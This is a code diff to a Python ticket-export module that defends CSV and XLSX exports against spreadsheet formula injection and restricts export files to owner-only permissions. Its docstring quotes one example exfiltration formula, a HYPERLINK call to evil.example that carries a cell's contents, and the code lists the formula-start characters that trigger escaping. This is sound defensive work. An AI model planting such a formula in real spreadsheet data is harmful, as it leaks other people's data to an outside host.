@@ -4,13 +4,20 @@ Both formats carry the list's columns (``views.LIST_COLUMNS``) in order. Times a
 in the local time zone, as the screens show them: in .xlsx as real date cells (Excel and
 LibreOffice sort and filter them as dates), in .csv as ISO 8601 with the UTC offset. The file
 is written next to its destination and moved into place only when complete, so a failed
-export never leaves half a file behind.
+export never leaves half a file behind; it is owner-only (0600): it holds customer data.
+
+Texts are never formulas: customer names and comments come from the public survey forms, and
+a spreadsheet runs a cell such as ``=HYPERLINK("http://evil.example/?x="&D2,"x")``. In .xlsx
+every text is a string cell (``xlsx_text``); in .csv a text that begins with ``=``, ``+``,
+``-``, ``@``, a tab or a CR gets one ``'`` in front (``csv_text``; ``csv_text_read`` undoes
+it). Numbers and dates keep their types.
 """
 
 from __future__ import annotations
 
 import csv
 import os
+import re
 import tempfile
 from collections.abc import Iterable, Sequence
 from datetime import datetime
@@ -22,6 +29,7 @@ from openpyxl.cell import WriteOnlyCell
 from sqlalchemy import Engine
 
 from cxdesk.errors import DeskError
+from cxdesk.locations import PRIVATE_FILE_MODE
 from cxdesk.store.db import read_session
 from cxdesk.store.views import LIST_COLUMNS, Sort, TicketFilter, TicketRow, iter_tickets
 
@@ -38,41 +46,90 @@ def _values(row: TicketRow) -> list[Any]:
     return [getattr(row, name) for name in LIST_COLUMNS]
 
 
-def _write_csv(path: Path, batches: Iterable[Sequence[TicketRow]]) -> int:
+# -- texts that stay texts ---------------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""A spreadsheet reads a .csv cell beginning with one of these as a formula (OWASP's list)."""
+CSV_TEXT_PREFIX = "'"
+XLSX_MAX_TEXT = 32_767
+"""Excel's limit for the characters in one cell."""
+_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
+
+
+def csv_text(value: str) -> str:
+    """``value`` as a .csv cell no spreadsheet runs: one ``'`` in front when it begins, after
+    any apostrophes of its own, with a ``FORMULA_STARTS`` character (so ``csv_text_read`` can
+    tell the added one from the text's)."""
+    return CSV_TEXT_PREFIX + value if value.lstrip("'").startswith(FORMULA_STARTS) else value
+
+
+def csv_text_read(cell: str) -> str:
+    """The text ``csv_text`` was given, from the cell it made."""
+    if cell.startswith(CSV_TEXT_PREFIX) and cell.lstrip("'").startswith(FORMULA_STARTS):
+        return cell[len(CSV_TEXT_PREFIX) :]
+    return cell
+
+
+def xlsx_text(value: str) -> str:
+    """What an .xlsx string cell holds for ``value``: line ends as LF (an XML reader turns a
+    CR into an LF anyway), U+FFFD for the control characters XML cannot carry, at most
+    ``XLSX_MAX_TEXT`` characters."""
+    text = value.replace("\r\n", "\n").replace("\r", "\n")
+    return _NOT_IN_XML.sub("\ufffd", text)[:XLSX_MAX_TEXT]
+
+
+# -- writers ------------------------------------------------------------------------------------
+
+
+def write_csv(path: Path, batches: Iterable[Sequence[TicketRow]]) -> int:
+    """The list's columns to a new .csv at ``path`` (UTF-8 with a BOM, which Excel needs to
+    read UTF-8); returns the number of rows."""
     written = 0
-    with path.open("w", newline="", encoding="utf-8-sig") as handle:  # BOM: Excel reads UTF-8
+    with path.open("w", newline="", encoding="utf-8-sig") as handle:
         writer = csv.writer(handle)
         writer.writerow(LIST_COLUMNS.values())
         for batch in batches:
             for row in batch:
-                writer.writerow(
-                    _local(v).isoformat(timespec="seconds") if isinstance(v, datetime) else v
-                    for v in _values(row)
-                )
+                writer.writerow(_csv_cell(value) for value in _values(row))
                 written += 1
     return written
 
 
-def _write_xlsx(path: Path, batches: Iterable[Sequence[TicketRow]]) -> int:
-    workbook = Workbook(write_only=True)  # rows go straight to the file, not kept in memory
+def _csv_cell(value: object) -> object:
+    if isinstance(value, datetime):
+        return _local(value).isoformat(timespec="seconds")
+    if isinstance(value, str):
+        return csv_text(value)
+    return value
+
+
+def write_xlsx(path: Path, batches: Iterable[Sequence[TicketRow]]) -> int:
+    """The list's columns to a new .xlsx at ``path``, streamed (write-only: rows go to the
+    file, not kept in memory); returns the number of rows."""
+    workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet(SHEET_TITLE)
     sheet.append(list(LIST_COLUMNS.values()))
     written = 0
     for batch in batches:
         for row in batch:
-            cells: list[Any] = []
-            for value in _values(row):
-                if isinstance(value, datetime):
-                    # Excel has no time zones: the local wall-clock time, as a date cell.
-                    cell = WriteOnlyCell(sheet, value=_local(value).replace(tzinfo=None))
-                    cell.number_format = XLSX_DATE_FORMAT
-                    cells.append(cell)
-                else:
-                    cells.append(value)
-            sheet.append(cells)
+            sheet.append([_xlsx_cell(sheet, value) for value in _values(row)])
             written += 1
     workbook.save(path)
     return written
+
+
+def _xlsx_cell(sheet: Any, value: object) -> object:
+    if isinstance(value, datetime):
+        # Excel has no time zones: the local wall-clock time, as a date cell.
+        cell = WriteOnlyCell(sheet, value=_local(value).replace(tzinfo=None))
+        cell.number_format = XLSX_DATE_FORMAT
+        return cell
+    if isinstance(value, str):
+        # openpyxl makes a text beginning with "=" a formula and "#N/A" an error: a string.
+        cell = WriteOnlyCell(sheet, value=xlsx_text(value))
+        cell.data_type = "s"
+        return cell
+    return value
 
 
 def export_tickets(
@@ -93,14 +150,15 @@ def export_tickets(
         raise DeskError(f"{output} is a folder; give a file name")
     if not output.parent.is_dir():
         raise DeskError(f"Folder {output.parent} does not exist")
+    # Owner-only (0600) whatever the umask: an export holds customer data.
     handle, temporary = tempfile.mkstemp(prefix=".cxdesk-export-", dir=output.parent)
+    os.fchmod(handle, PRIVATE_FILE_MODE)
     os.close(handle)
     temp_path = Path(temporary)
-    temp_path.chmod(0o644)  # mkstemp makes it private; an export is an ordinary file
     try:
         with read_session(engine) as session:
             batches = iter_tickets(session, flt, sort=sort)
-            writer = _write_csv if fmt == "csv" else _write_xlsx
+            writer = write_csv if fmt == "csv" else write_xlsx
             written = writer(temp_path, batches)
         temp_path.replace(output)
     except OSError as exc:
